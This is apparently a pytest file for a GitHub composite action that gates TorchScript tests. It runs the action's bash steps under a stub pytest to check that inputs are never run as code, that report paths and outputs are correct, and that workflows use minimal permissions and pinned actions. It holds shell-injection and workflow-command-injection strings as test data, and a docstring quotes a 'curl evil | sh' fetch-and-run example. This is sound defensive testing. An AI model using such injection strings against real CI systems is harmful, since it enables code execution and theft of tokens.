"""The GitHub Action and the example workflows: linted, and the action's steps run as GitHub's runner would run them."""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
import yaml

ROOT = Path(__file__).parents[1]
ACTION = ROOT / "action.yml"
EXAMPLES = sorted((ROOT / "docs" / "workflows").glob("*.yml"))
# An unpacked sdist has the examples and no .github.
WORKFLOWS = [*sorted((ROOT / ".github" / "workflows").glob("*.yml")), *EXAMPLES]

BASH = shutil.which("bash")
ACTIONLINT = shutil.which("actionlint", path=os.pathsep.join([str(Path(sys.executable).parent), os.environ.get("PATH", "")]))

needs_bash = pytest.mark.skipif(BASH is None, reason="no bash, which runs the action's steps")
needs_actionlint = pytest.mark.skipif(ACTIONLINT is None, reason="no actionlint on this platform")

CODE = ["$(touch pwned)", "`touch pwned`", "; touch pwned #", "&& touch pwned", "${{ github.token }}"]
HOSTILE = [*CODE, "a b", "it's", '"', "-h", "größe", "\\", "*"]
SUMMARY = "# What the gates found\n"
SUITE = """
import pytest
import torch

class Head(torch.nn.Module):
    def forward(self, x):
        return x.sum(1) / int(x.shape[1])

@pytest.mark.torchscript(id="layer")
def test_layer():
    torch.nn.Linear(8, 4)(torch.randn(2, 8))

@pytest.mark.torchscript(id="head")
def test_head():
    Head()(torch.randn(2, 16, 8))
"""
# Stands for pytest: notes how it was called, writes the reports it was asked for, exits as it was told to.
STUB = f"""
import json, os, pathlib, sys
asked = dict(word[len("--torchscript-"):].split("=", 1) for word in sys.argv[1:] if word.startswith("--torchscript-"))
environment = [name for name in os.environ if name.startswith("TORCHSCRIPT_")]
called = {{"arguments": sys.argv[1:], "folder": os.getcwd(), "environment": environment, "input": sys.stdin.read()}}
pathlib.Path(os.environ["STUB_NOTES"]).write_text(json.dumps(called), encoding="utf-8")
if os.environ.get("STUB_WRITES", "yes") == "yes":
    for name in ("json", "junit", "summary"):
        if name in asked:
            pathlib.Path(asked[name]).write_text({SUMMARY!r}, encoding="utf-8")
if os.environ.get("STUB_SHOWS"):
    pathlib.Path(os.environ["GITHUB_STEP_SUMMARY"]).write_text({SUMMARY!r}, encoding="utf-8")
if os.environ.get("STUB_DIES"):
    os.kill(os.getpid(), 9)
sys.exit(int(os.environ.get("STUB_CODE", "0")))
"""


def load(path: Path) -> dict[str, Any]:
    loaded = yaml.safe_load(path.read_text(encoding="utf-8"))
    assert isinstance(loaded, dict)
    return loaded


def steps_of(workflow: Mapping[str, Any]) -> list[dict[str, Any]]:
    return [step for job in workflow["jobs"].values() for step in job["steps"]]


# The runner


@dataclass
class Ran:
    """One call of the action: the exit code of the step that ended it, what was printed, its outputs, the run's page."""

    folder: Path
    code: int = 0
    log: str = ""
    outputs: dict[str, str] = field(default_factory=dict)
    page: str = ""

    @property
    def called(self) -> dict[str, Any]:
        """How the stub was called."""
        called = json.loads((self.folder.parent / "notes.json").read_text(encoding="utf-8"))
        assert isinstance(called, dict)
        return called


def evaluated(text: str, values: Mapping[str, str]) -> str:
    """Expressions replaced by their values, in one pass: a value that looks like an expression is none."""
    return re.sub(r"\$\{\{\s*([\w.-]+)\s*\}\}", lambda found: values[found[1]], text)


def run_action(folder: Path, inputs: Mapping[str, str], environment: Mapping[str, str], only: str = "") -> Ran:
    """Run the steps of the action in ``folder`` with ``bash --noprofile --norc -e -o pipefail``, as the runner does."""
    action = load(ACTION)
    values = {f"inputs.{name}": inputs.get(name, given["default"]) for name, given in action["inputs"].items()}
    assert set(inputs) <= set(action["inputs"])
    commands = folder.parent / "commands"
    commands.mkdir()
    ran = Ran(folder)
    written: dict[str, str] = {}
    for number, step in enumerate(action["runs"]["steps"]):
        if only not in ("", step["name"]):
            continue
        assert step["shell"] == "bash"
        script, output, page = commands / f"{number}.sh", commands / f"output{number}", commands / f"page{number}"
        script.write_text(step["run"], encoding="utf-8")
        output.touch()
        page.touch()
        process = subprocess.run(
            [BASH or "bash", "--noprofile", "--norc", "-e", "-o", "pipefail", str(script)],
            cwd=folder / evaluated(step["working-directory"], values),
            env={
                "PATH": os.environ["PATH"],
                "HOME": str(folder.parent),
                "LANG": os.environ.get("LANG", "C.UTF-8"),
                "CI": "true",
                "GITHUB_ACTIONS": "true",
                "GITHUB_OUTPUT": str(output),
                "GITHUB_ACTION_PATH": str(ROOT),
                "GITHUB_STEP_SUMMARY": str(page),
                "OMP_NUM_THREADS": "1",
                **{name: evaluated(text, values) for name, text in step["env"].items()},
                **environment,
            },
            stdin=subprocess.DEVNULL,
            stdout=subprocess.PIPE,
            stderr=subprocess.STDOUT,
            text=True,
            encoding="utf-8",
            timeout=120,
        )
        ran.code, ran.log, ran.page = process.returncode, ran.log + process.stdout, ran.page + page.read_text(encoding="utf-8")
        for line in output.read_text(encoding="utf-8").splitlines():
            name, _, value = line.partition("=")
            written[f"steps.{step['id']}.outputs.{name}"] = value
        if process.returncode:
            break
    # The runner evaluates the outputs after a failing step too.
    missing = {f"steps.gate.outputs.{name}": "" for name in action["outputs"]}
    ran.outputs = {name: evaluated(given["value"], {**missing, **written}) for name, given in action["outputs"].items()}
    assert not [path for path in folder.parent.rglob("*") if path.name == "pwned"], f"an input was executed:\n{ran.log}"
    return ran


Gate = Callable[..., Ran]


@pytest.fixture
def gate(tmp_path: Path) -> Gate:
    """Run the action's second step over a stub of pytest."""
    stub = tmp_path / "stub" / "pytest"
    stub.mkdir(parents=True)
    (stub / "__init__.py").touch()
    (stub / "__main__.py").write_text(STUB, encoding="utf-8")
    folder = tmp_path / "work"
    folder.mkdir()

    def gate(inputs: Mapping[str, str] = {}, **environment: str) -> Ran:
        notes = {"PYTHONPATH": str(stub.parent), "STUB_NOTES": str(tmp_path / "notes.json"), "PYTHONUTF8": "1"}
        return run_action(folder, {"python": sys.executable, **inputs}, {**notes, **environment}, "Run pytest")

    return gate


# How pytest is called


@needs_bash
def test_the_reports_are_asked_for_where_the_inputs_say(gate: Gate) -> None:
    """Folders are made, paths are absolute: they stand for the same file in every later step."""
    ran = gate({"json": "a/b/gates.json", "baseline": "base.json", "pytest-args": "-m torchscript -n 2"})
    reports = ran.folder / "torchscript-reports"
    assert ran.called["arguments"] == [
        f"--torchscript-baseline={ran.folder / 'base.json'}",
        f"--torchscript-json={ran.folder / 'a' / 'b' / 'gates.json'}",
        f"--torchscript-junit={reports / 'junit.xml'}",
        "-o",
        "junit_family=xunit1",
        f"--torchscript-summary={reports / 'summary.md'}",
        "-m",
        "torchscript",
        "-n",
        "2",
    ]
    assert ran.outputs == {
        "json": str(ran.folder / "a" / "b" / "gates.json"),
        "junit": str(reports / "junit.xml"),
        "summary": str(reports / "summary.md"),
    }
    assert not (ran.folder / "base.json").exists()


@needs_bash
def test_an_empty_path_asks_for_nothing(gate: Gate) -> None:
    """What is not wanted is not written."""
    ran = gate({"json": "", "junit": "", "summary": ""})
    assert ran.called["arguments"] == []
    assert ran.outputs == {"json": "", "junit": "", "summary": ""}
    assert (ran.code, ran.page, list(ran.folder.iterdir())) == (0, "", [])


@needs_bash
def test_pytest_runs_in_the_working_directory(gate: Gate, tmp_path: Path) -> None:
    """And reports with relative paths go there."""
    (tmp_path / "work" / "sub dir").mkdir()
    ran = gate({"working-directory": "sub dir"})
    assert ran.called["folder"] == str(ran.folder / "sub dir")
    assert ran.outputs["json"] == str(ran.folder / "sub dir" / "torchscript-reports" / "gates.json")


@needs_bash
def test_the_suite_does_not_see_the_inputs(gate: Gate) -> None:
    """A test that prints its environment, or reads its input, does the same with the action and without."""
    called = gate({"pytest-args": "-q"}).called
    assert (called["environment"], called["input"]) == ([], "")


@needs_bash
@pytest.mark.parametrize("value", HOSTILE)
def test_arguments_are_words_and_never_code(gate: Gate, value: str) -> None:
    """The input is split as a shell would split it, and no shell runs it."""
    quoted = "'" + value.replace("'", "'\"'\"'") + "'"
    ran = gate({"pytest-args": f"-k {quoted}\n  --maxfail=1", "json": "", "junit": "", "summary": ""})
    assert ran.called["arguments"] == ["-k", value, "--maxfail=1"]
    assert ran.code == 0


@needs_bash
@pytest.mark.parametrize(
    "arguments", ["$(touch pwned)", "`touch pwned`", "; touch pwned", "| touch pwned", "> pwned", "a\ntouch pwned"]
)
def test_unquoted_code_is_not_run_either(gate: Gate, arguments: str) -> None:
    """Nobody need quote for safety."""
    ran = gate({"pytest-args": arguments, "json": "", "junit": "", "summary": ""})
    assert ran.called["arguments"] == arguments.split()


@needs_bash
def test_an_open_quote_is_an_error(gate: Gate) -> None:
    """Arguments that were dropped silently would run, or leave out, other tests."""
    ran = gate({"pytest-args": "-k 'a"})
    assert (ran.code, ran.outputs["json"]) == (4, "")
    assert "::error title=TorchScript gate::the input 'pytest-args' cannot be split into words: No closing quotation" in ran.log


@needs_bash
@pytest.mark.parametrize("value", HOSTILE)
def test_a_path_is_a_path_whatever_is_in_it(gate: Gate, value: str) -> None:
    """Every report is where its input says, under that very name."""
    names = {name: f"{value}.{name}" for name in ("baseline", "json", "junit", "summary")}
    ran = gate(names)
    paths = {name: str(ran.folder / path) for name, path in names.items()}
    asked = [word for word in ran.called["arguments"] if word not in ("-o", "junit_family=xunit1")]
    assert asked == [f"--torchscript-{name}={path}" for name, path in paths.items()]
    assert ran.outputs == {name: path for name, path in paths.items() if name != "baseline"}
    assert all(Path(path).is_file() for path in ran.outputs.values())


@needs_bash
@pytest.mark.parametrize("value", ["a\nb", "a\n::set-env name=x::y", "a\rb", "a\x1b[0m", "a\u2028b"])
def test_a_path_of_several_lines_is_refused(gate: Gate, value: str) -> None:
    """In a file of outputs, and in a log, the second line would be another output and another command."""
    ran = gate({"json": value})
    assert (ran.code, ran.outputs["json"]) == (4, "")
    assert ran.log == (
        "::error title=TorchScript gate::the input 'json' must be a path of one line, without control characters\n"
    )


@needs_bash
def test_a_folder_that_cannot_be_made_is_an_error(gate: Gate, tmp_path: Path) -> None:
    """Said in the words of the input."""
    (tmp_path / "work" / "file").touch()
    ran = gate({"junit": "file/junit.xml"})
    assert ran.code == 4
    assert "the input 'junit' names a file in a folder that cannot be made" in ran.log


@needs_bash
@pytest.mark.parametrize("value", ["no-such-python", "$(touch pwned)", "python; touch pwned", "", "a\nb"])
def test_a_python_that_is_none_fails_the_step(gate: Gate, value: str) -> None:
    """It is one program, by name or path, and no command line."""
    assert gate({"python": value}).code == 127


# What comes of it


@needs_bash
@pytest.mark.parametrize("code", [0, 1, 2, 3, 4, 5])
def test_the_exit_code_is_that_of_pytest(gate: Gate, code: int) -> None:
    """5, no tests collected, fails the step too: a gate over nothing is none."""
    assert gate(STUB_CODE=str(code)).code == code


@needs_bash
@pytest.mark.skipif(sys.platform == "win32", reason="no signals")
def test_a_pytest_that_is_killed_fails_the_step(gate: Gate) -> None:
    """With what a shell says of it: 128 and the signal."""
    ran = gate(STUB_DIES="yes", STUB_WRITES="no")
    assert (ran.code, ran.outputs["json"]) == (137, "")
    assert ran.page == "**The TorchScript gate wrote no summary:** pytest ended with exit code -9; the log says why.\n"


@needs_bash
@pytest.mark.parametrize("code", ["0", "1"])
def test_the_page_of_the_run_shows_the_summary(gate: Gate, code: str) -> None:
    """Most of all when the gate failed."""
    ran = gate(STUB_CODE=code)
    assert ran.page == SUMMARY
    assert Path(ran.outputs["summary"]).read_text(encoding="utf-8") == SUMMARY


@needs_bash
def test_a_summary_that_the_page_shows_already_is_not_shown_again(gate: Gate) -> None:
    """The gate may write there itself."""
    assert gate(STUB_SHOWS="yes").page == SUMMARY


@needs_bash
def test_without_a_summary_the_page_says_so(gate: Gate) -> None:
    """A page without a word would look like a run without gates."""
    ran = gate(STUB_WRITES="no", STUB_CODE="4")
    assert ran.code == 4
    assert "wrote no summary:** pytest ended with exit code 4" in ran.page


@needs_bash
def test_reports_of_an_earlier_run_are_not_taken_for_this_ones(gate: Gate, tmp_path: Path) -> None:
    """A workspace may be kept from run to run."""
    old = tmp_path / "work" / "torchscript-reports" / "summary.md"
    old.parent.mkdir()
    old.write_text("of yesterday", encoding="utf-8")
    ran = gate(STUB_WRITES="no", STUB_CODE="3")
    assert ran.outputs == {"json": "", "junit": "", "summary": ""}
    assert "yesterday" not in ran.page
    assert old.read_text(encoding="utf-8") == "of yesterday"


@needs_bash
def test_over_a_real_suite(tmp_path: Path) -> None:
    """Both steps, the real pytest, one model that passes and one that does not."""
    folder = tmp_path / "work"
    folder.mkdir()
    (folder / "test_models.py").write_text(SUITE, encoding="utf-8")
    arguments = "-p no:cacheprovider -q -m 'torchscript and not slow'"
    ran = run_action(folder, {"python": sys.executable, "pytest-args": arguments}, {})
    assert ran.code == 1, ran.log
    assert "1 failed, 1 passed" in ran.log
    gates = json.loads(Path(ran.outputs["json"]).read_text(encoding="utf-8"))["gates"]
    assert {gate["id"]: gate["outcome"] for gate in gates} == {"head": "failed", "layer": "passed"}
    junit = Path(ran.outputs["junit"]).read_text(encoding="utf-8")
    assert 'type="ShapeSpecialised"' in junit
    assert 'file="test_models.py" line="7"' in junit
    summary = Path(ran.outputs["summary"]).read_text(encoding="utf-8")
    assert "ShapeSpecialised" in summary
    assert ran.page.count(summary) == 1
    assert sorted(path.name for path in folder.iterdir() if path.name != "__pycache__") == [
        "test_models.py",
        "torchscript-reports",
    ]


# What is installed

Install = Callable[..., tuple[Ran, list[list[str]]]]

PYTHON = """#!/usr/bin/env bash
printf '%s\\n' "$@" '' >> "$NOTES"
case " $* " in
  *" -m pip "*) exit 0 ;;
esac
for module in "${@:3}"; do
  case " $HAS " in *" $module "*) ;; *) exit 1 ;; esac
done
"""


@pytest.fixture
def install(tmp_path: Path) -> Install:
    """Run the action's first step with a Python that has the modules named; gives what pip was asked for, too."""
    (tmp_path / "work").mkdir()
    python = tmp_path / "a python"
    python.write_text(PYTHON, encoding="utf-8")
    python.chmod(0o755)

    def install(has: str, **inputs: str) -> tuple[Ran, list[list[str]]]:
        notes = tmp_path / "notes"
        environment = {"NOTES": str(notes), "HAS": has}
        ran = run_action(tmp_path / "work", {"python": str(python), **inputs}, environment, "Install the gate")
        calls = [call.splitlines() for call in notes.read_text(encoding="utf-8").split("\n\n")]
        return ran, [call[4:] for call in calls if call[:2] == ["-m", "pip"]]

    return install


@needs_bash
def test_the_gate_is_installed_without_torch(install: Install) -> None:
    """pip must not replace the torch under test, or fetch gigabytes of another."""
    ran, calls = install("torch pytest")
    assert (ran.code, calls) == (
        0,
        [
            ["--disable-pip-version-check", "--no-deps", "--", str(ROOT)],
            ["--disable-pip-version-check", "junit-xml>=1.9"],
        ],
    )


@needs_bash
def test_a_gate_that_is_there_stays(install: Install) -> None:
    """A suite that pins a version gets that version."""
    assert install("torch pytest pytest_torchscript junit_xml")[1] == []


@needs_bash
@pytest.mark.parametrize("has", ["", "torch", "pytest"])
def test_without_torch_or_pytest_nothing_is_installed(install: Install, has: str) -> None:
    """The wrong Python is named as what it is, before anything runs."""
    ran, calls = install(has)
    assert (ran.code, calls) == (1, [])
    assert "::error title=TorchScript gate::the input 'python' names no Python that has torch and pytest" in ran.log


@needs_bash
@pytest.mark.parametrize("value", HOSTILE)
def test_the_package_is_one_argument(install: Install, value: str) -> None:
    """Not options of pip's, and not code."""
    assert install("torch pytest junit_xml", package=value)[1] == [["--disable-pip-version-check", "--no-deps", "--", value]]


# What is written


def test_the_action_describes_its_inputs_and_uses_them_all() -> None:
    """An input that does nothing is a promise broken."""
    action = load(ACTION)
    assert action["runs"]["using"] == "composite"
    used: set[str] = set()
    for step in action["runs"]["steps"]:
        used |= set(re.findall(r"inputs\.([\w-]+)", " ".join([step["working-directory"], *step["env"].values()])))
    assert used == set(action["inputs"])
    for given in (*action["inputs"].values(), *action["outputs"].values()):
        assert given["description"]
    assert all(isinstance(given["default"], str) for given in action["inputs"].values())


def test_the_page_on_ci_names_every_input_and_every_example() -> None:
    """What is not written down is not there."""
    page = (ROOT / "docs" / "ci.md").read_text(encoding="utf-8")
    action = load(ACTION)
    assert not [name for name in (*action["inputs"], *action["outputs"]) if f"`{name}`" not in page]
    assert not [path.name for path in EXAMPLES if f"(workflows/{path.name})" not in page]


@pytest.mark.parametrize("path", [ACTION, *WORKFLOWS], ids=lambda path: path.name)
def test_no_script_holds_an_expression(path: Path) -> None:
    """An expression in a script is text put into code: ``a"; curl evil | sh`` would run."""
    loaded = load(path)
    steps = steps_of(loaded) if "jobs" in loaded else loaded["runs"]["steps"]
    scripts = [step["run"] for step in steps if "run" in step]
    assert scripts or path.name == "upload-junit.yml"
    assert not [script for script in scripts if "${{" in script]


@pytest.mark.parametrize("path", WORKFLOWS, ids=lambda path: path.name)
def test_no_workflow_may_do_more_than_it_must(path: Path) -> None:
    """Nothing by default, every job what it needs, and a time limit."""
    workflow = load(path)
    assert workflow["permissions"] == {}
    for name, job in workflow["jobs"].items():
        assert job["permissions"], f"{name} inherits nothing and asks for nothing"
        assert job["timeout-minutes"]
        may_write = job["permissions"].get("contents") == "write"
        for step in job["steps"]:
            if step.get("uses", "").startswith("actions/checkout@") and not may_write:
                assert step["with"]["persist-credentials"] is False


@pytest.mark.parametrize("path", EXAMPLES, ids=lambda path: path.name)
def test_a_job_that_can_write_runs_nothing_of_the_project(path: Path) -> None:
    """What a test or a dependency runs could write too."""
    for job in load(path)["jobs"].values():
        if "write" in job["permissions"].values():
            scripts = " ".join(step.get("run", "") for step in job["steps"])
            assert not re.search(r"\b(pip|pytest|python|make|npm)\b", scripts)


@pytest.mark.parametrize("path", EXAMPLES, ids=lambda path: path.name)
def test_the_examples_pin_what_they_use_by_digest(path: Path) -> None:
    """A tag can be moved to other code after it was reviewed. The comment names the release."""
    lines = [line for line in path.read_text(encoding="utf-8").splitlines() if re.match(r"\s*(- )?uses:", line)]
    assert lines
    for line in lines:
        if "OWNER/pytest-torchscript@" not in line:
            assert re.search(r"uses: [\w-]+/[\w-]+@[0-9a-f]{40} # v\d+\.\d+\.\d+$", line), line


@pytest.mark.parametrize("path", EXAMPLES, ids=lambda path: path.name)
def test_the_examples_know_the_action(path: Path) -> None:
    """Inputs and outputs that exist: a misspelt input is only a warning to GitHub."""
    action = load(ACTION)
    text = path.read_text(encoding="utf-8")
    for step in steps_of(load(path)):
        if "pytest-torchscript@" in step.get("uses", ""):
            assert set(step["with"]) <= set(action["inputs"])
            assert set(re.findall(rf"steps\.{step['id']}\.outputs\.(\w+)", text)) <= set(action["outputs"])


# actionlint


def lint(folder: Path, *paths: Path) -> None:
    # Without shellcheck and pyflakes, which not every machine has: the same verdict everywhere.
    command = [ACTIONLINT or "actionlint", "-no-color", "-oneline", "-shellcheck=", "-pyflakes=", *map(str, paths)]
    ran = subprocess.run(command, cwd=folder, capture_output=True, text=True, encoding="utf-8", timeout=60)
    assert (ran.returncode, ran.stdout, ran.stderr) == (0, "", "")


@needs_actionlint
def test_actionlint_finds_nothing_in_the_workflows(tmp_path: Path) -> None:
    """Beside the action itself, so that it checks the examples' inputs and outputs against it."""
    folder = tmp_path / ".github" / "workflows"
    folder.mkdir(parents=True)
    (tmp_path / ".git").mkdir()
    shutil.copy(ACTION, tmp_path)
    for path in WORKFLOWS:
        text = re.sub(r"OWNER/pytest-torchscript@\S+", "./", path.read_text(encoding="utf-8"))
        (folder / path.name).write_text(text, encoding="utf-8")
    lint(tmp_path, *sorted(folder.iterdir()))


@needs_actionlint
def test_actionlint_finds_nothing_in_the_action(tmp_path: Path) -> None:
    """It reads workflows only: the action's steps are put into one, its inputs and outputs become a workflow's."""
    action = load(ACTION)
    inputs = {name: {"type": "string", **given} for name, given in action["inputs"].items()}
    job = {"runs-on": "ubuntu-latest", "steps": action["runs"]["steps"]}
    outputs = {name: given["value"] for name, given in action["outputs"].items()}
    workflow = {"on": {"workflow_call": {"inputs": inputs}}, "jobs": {"action": {**job, "outputs": outputs}}}
    (tmp_path / "action.yml").write_text(yaml.safe_dump(workflow), encoding="utf-8")
    lint(tmp_path, tmp_path / "action.yml")
